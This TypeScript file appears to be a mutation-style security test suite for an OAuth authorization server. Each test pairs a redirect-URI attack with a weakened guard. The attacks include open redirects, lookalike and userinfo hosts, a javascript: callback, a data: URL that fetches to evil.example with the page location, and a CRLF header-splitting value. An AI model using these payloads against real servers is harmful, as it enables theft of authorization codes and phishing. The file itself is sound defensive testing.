// Where the code, or at least the browser, is sent to somebody who should not get it.

import { account, authorizeUrl, claudeCallback, type Door, pkce, readForm, register } from '../door.ts'
import { anyOf, asksForConsent, evilCallback, followLink, isRegistered, registerEvil } from './adversary.ts'
import { type Attack, type Mutant, succeededIf, without } from './attack.ts'

const server = 'authorization-server/'
const identity = 'identity/'
const oauth = 'oauth/'

const comparison = 'uri === requested || canonicalRedirectUri(uri) === asked'

function comparedBy(expression: string): Mutant {
  return without(oauth, comparison, `uri === requested || ${expression}`)
}

const userInfoRefused = without(
  'oauth/redirect-uri.ts',
  "url.username !== '' || url.password !== ''",
  'false',
)
const httpForLoopbackOnly = without(oauth, 'return isLoopbackHost(url.hostname) ?', 'return true ?')
const schemesWithDomain = without(oauth, "if (url.protocol.includes('.') ||", "if (url.protocol !== '' ||")
const dangerousSchemes = without(oauth, 'if (dangerousSchemes.has(url.protocol))', 'if (false)')

/** A link with a manipulated redirect, for a client that the victim knows and approves. */
async function codeGoesElsewhere(door: Door, sentTo: string, registered = claudeCallback): Promise<boolean> {
  const client = await register(door, { redirect_uris: [registered] })
  const link = authorizeUrl(door, String(client.client_id), pkce().challenge, { redirect_uri: sentTo })
  const place = await followLink(link, door.browser())
  return (
    place !== undefined &&
    place.origin + place.pathname + place.search.replace(/[?&]code=.*/, '') !== registered
  )
}

const callbacks: readonly Attack[] = [
  {
    name: '[OA21-01] [SBP-04] a link that names a callback on another host',
    source: 'RFC 9700 §4.1, RFC 6819 §4.2.4',
    guard: comparedBy('true'),
    run: async (door) => succeededIf(await codeGoesElsewhere(door, evilCallback)),
  },
  {
    name: '[OA21-01] a callback that climbs out of the registered path by dot segments',
    source: 'RFC 9700 §4.1.1',
    guard: comparedBy('requested.startsWith(uri)'),
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, `${claudeCallback}/../../../open-redirect`)),
  },
  {
    name: '[OA21-01] a callback on a host that begins like the registered one',
    source: 'RFC 9700 §4.1.1',
    guard: comparedBy('new URL(requested).host.startsWith(new URL(uri).host)'),
    run: async (door) =>
      succeededIf(
        await codeGoesElsewhere(door, claudeCallback.replace('claude.ai', 'claude.ai.evil.example')),
      ),
  },
  {
    name: '[OA21-01] a callback on a forgotten subdomain',
    source: 'RFC 9700 §4.1.1 (wildcards)',
    guard: comparedBy('new URL(requested).host.endsWith(new URL(uri).host)'),
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, claudeCallback.replace('claude.ai', 'old.claude.ai'))),
  },
  {
    name: '[OA21-01] a callback whose path differs in case',
    source: 'RFC 9700 §2.1',
    guard: comparedBy('uri.toLowerCase() === requested.toLowerCase()'),
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, claudeCallback.replace('auth_callback', 'AUTH_CALLBACK'))),
  },
  {
    name: '[OA21-01] a callback with a query that makes it an open redirector',
    source: 'RFC 9700 §4.1.2',
    guard: comparedBy("uri === requested.split('?')[0]"),
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, `${claudeCallback}?next=https://evil.example`)),
  },
  {
    name: '[OA21-01] a callback that hides its host behind a user name',
    source: 'RFC 9700 §4.1.1, RFC 3986 §7.6',
    guard: comparedBy('requested.startsWith(new URL(uri).origin)'),
    alsoNeeds: [userInfoRefused],
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, 'https://claude.ai@evil.example/api/mcp/auth_callback')),
  },
  {
    name: '[OA21-01] another port of an https callback, as only loopback may have',
    source: 'RFC 8252 §7.3',
    guard: comparedBy(String.raw`uri === requested.replace(/:\d+(?=\/)/, '')`),
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, claudeCallback.replace('claude.ai', 'claude.ai:8443'))),
  },
  {
    name: '[OA21-01] a callback on a host that begins with localhost',
    source: 'RFC 8252 §8.3',
    guard: comparedBy('requested.startsWith(new URL(uri).origin)'),
    alsoNeeds: [httpForLoopbackOnly],
    run: async (door) =>
      succeededIf(
        await codeGoesElsewhere(door, 'http://localhost.evil.example/callback', 'http://localhost/callback'),
      ),
  },
  {
    name: '[OA21-01] [CIMD-08] another path on loopback, where another program listens',
    source: 'RFC 8252 §7.3',
    guard: without(oauth, "`${loopback[1]}${loopback[2] ?? ''}`", "loopback[1] ?? ''"),
    run: async (door) =>
      succeededIf(await codeGoesElsewhere(door, 'http://localhost:5555/other', 'http://localhost/callback')),
  },
]

/** Registrations that prepare an attack on whoever approves them. */
function registering(name: string, source: string, uri: string, guard: Mutant, ...behind: Mutant[]): Attack {
  return {
    name,
    source,
    guard,
    ...(behind.length === 0 ? {} : { alsoNeeds: behind }),
    run: async (door) => succeededIf(await isRegistered(door, { redirect_uris: [uri] })),
  }
}

const registrations: readonly Attack[] = [
  registering(
    '[R9700-06] registering a callback that runs script',
    'RFC 9700 §4.1, OAuth 2.1 §2.3.1',
    'javascript:alert(document.domain)//',
    dangerousSchemes,
    schemesWithDomain,
  ),
  registering(
    'registering a callback that is a page of its own',
    'RFC 9700 §4.1, OAuth 2.1 §2.3.1',
    'data:text/html,<script>fetch("https://evil.example/"+location)</script>'.replaceAll('"', "'"),
    dangerousSchemes,
    schemesWithDomain,
  ),
  registering(
    '[OA21-02] registering a private scheme that any app can claim',
    'RFC 8252 §7.1',
    'myapp:/callback',
    schemesWithDomain,
  ),
  registering(
    '[R9700-06] registering a callback in the clear',
    'RFC 9700 §2.6',
    'http://evil.example/cb',
    httpForLoopbackOnly,
  ),
  registering(
    'registering a callback with a fragment, which would carry the code to script',
    'RFC 6749 §3.1.2',
    `${evilCallback}#`,
    without(oauth, "if (uri.includes('#'))", 'if (false)'),
  ),
  registering(
    'registering a callback with a password, which browsers show as another host',
    'RFC 3986 §7.6',
    'https://claude.ai:login@evil.example/cb',
    userInfoRefused,
  ),
  registering(
    'registering a callback that brings a code of its own, which its reader takes first',
    'RFC 9700 §4.5, RFC 6749 §3.1',
    `${claudeCallback}?code=of-the-attacker`,
    without(oauth, 'if (taken !== undefined)', 'if (false)'),
  ),
  registering(
    'registering a callback with line breaks, to split the redirect in two answers',
    'RFC 9110 §5.5, CWE-113',
    `${evilCallback}\r\nset-cookie: postern=1`,
    without(oauth, String.raw`|| !/^[\x21-\x5b\x5d-\x7e]+$/.test(uri)`),
  ),
  registering(
    'registering a callback of a megabyte, to be sent back and forth',
    'RFC 7591 §5',
    `${evilCallback}?${'x'.repeat(50_000)}`,
    without(oauth, 'if (uri.length > maximumUriLength)', 'if (false)'),
  ),
]

const bouncesOnlyTrusted = without(server, 'const mayBounce =', 'const mayBounce = true ||')

/** The door as a springboard: a link that begins with its name and ends elsewhere, before a person saw a page. */
async function bounces(door: Door, changes: Record<string, string | undefined>): Promise<boolean> {
  const link = authorizeUrl(door, await registerEvil(door), pkce().challenge, {
    redirect_uri: evilCallback,
    ...changes,
  })
  const response = await door.fetch(link.slice(door.origin.length))
  return response.headers.get('location')?.startsWith('https://evil.example') === true
}

/** Where sign-in sends a browser that came with this `then`. */
async function afterSignIn(door: Door, then: string): Promise<string> {
  const browser = door.browser()
  const { action, fields } = readForm(
    await (await browser.get(`/login?then=${encodeURIComponent(then)}`)).text(),
  )
  fields.set('username', account.username)
  fields.set('password', account.password)
  fields.set('then', then)
  return (await browser.post(action, fields)).headers.get('location') ?? ''
}

const onlyKnownReturns = without(
  identity,
  'return requestPath.test(path) || personalPath.test(path) ? asked : homePath',
  'return asked',
)
const onlyOwnPaths = without(identity, '|| !asked.startsWith(homePath)')

const redirectors: readonly Attack[] = [
  {
    name: '[OA21-25] a faulty request of an unknown client, to be sent on to its site at once',
    source: 'OAuth 2.1 §7.13, RFC 9700 §4.11.2',
    guard: bouncesOnlyTrusted,
    run: async (door) => succeededIf(await bounces(door, { response_type: 'token' })),
  },
  {
    name: '[OA21-25] prompt=none, to be sent on to the site of an unknown client at once',
    source: 'RFC 9700 §4.11.2',
    guard: bouncesOnlyTrusted,
    run: async (door) => succeededIf(await bounces(door, { prompt: 'none' })),
  },
  {
    name: '[OA21-03] a redirect that was refused, and gets the error all the same',
    source: 'OAuth 2.1 §4.1.2.1; RFC 9700 §4.11.2',
    guard: without(
      server,
      'if (redirect === undefined) {',
      `if (redirect === undefined) throw new AuthorizationError({ uri: asked }, request.state, 'invalid_request', 'no')
       if (redirect === undefined) {`,
    ),
    async run(door) {
      const client = await register(door)
      const link = authorizeUrl(door, String(client.client_id), pkce().challenge, {
        redirect_uri: evilCallback,
      })
      const response = await door.fetch(link)
      return succeededIf(response.headers.get('location')?.startsWith(evilCallback) === true)
    },
  },
  {
    name: 'a sign-in link that leads on to another site',
    source: 'RFC 9700 §4.11, CWE-601',
    guard: onlyKnownReturns,
    alsoNeeds: [onlyOwnPaths],
    run: async (door) => succeededIf((await afterSignIn(door, evilCallback)) === evilCallback),
  },
  {
    name: 'a sign-in link that leads on to another site without naming a scheme',
    source: 'RFC 9700 §4.11, CWE-601',
    guard: onlyKnownReturns,
    run: async (door) =>
      succeededIf(
        await anyOf(['//evil.example', '/\\evil.example', '/\t/evil.example'], async (then) => {
          const location = await afterSignIn(door, then)
          return new URL(location, door.origin).host === 'evil.example'
        }),
      ),
  },
  {
    name: 'a sign-in link that leads on to a request of the attacker, as if the person had begun it',
    source: 'RFC 9700 §4.7; OAuth 2.1 §7.13',
    guard: onlyKnownReturns,
    async run(door) {
      const then = authorizeUrl(door, await registerEvil(door), pkce().challenge).slice(door.origin.length)
      return succeededIf((await afterSignIn(door, then)) === then)
    },
  },
  {
    name: '[HS-04] an id that nobody has, with a callback of the attacker, to be brought back as a client',
    source: 'house rule 4',
    guard: without(server, 'const isBuiltIn =', 'const isBuiltIn = true ||'),
    async run(door) {
      const link = authorizeUrl(door, 'forgotten', pkce().challenge, { redirect_uri: evilCallback })
      return succeededIf(await asksForConsent(link, door.browser()))
    },
  },
]

export const redirectAttacks: readonly Attack[] = [...callbacks, ...registrations, ...redirectors]
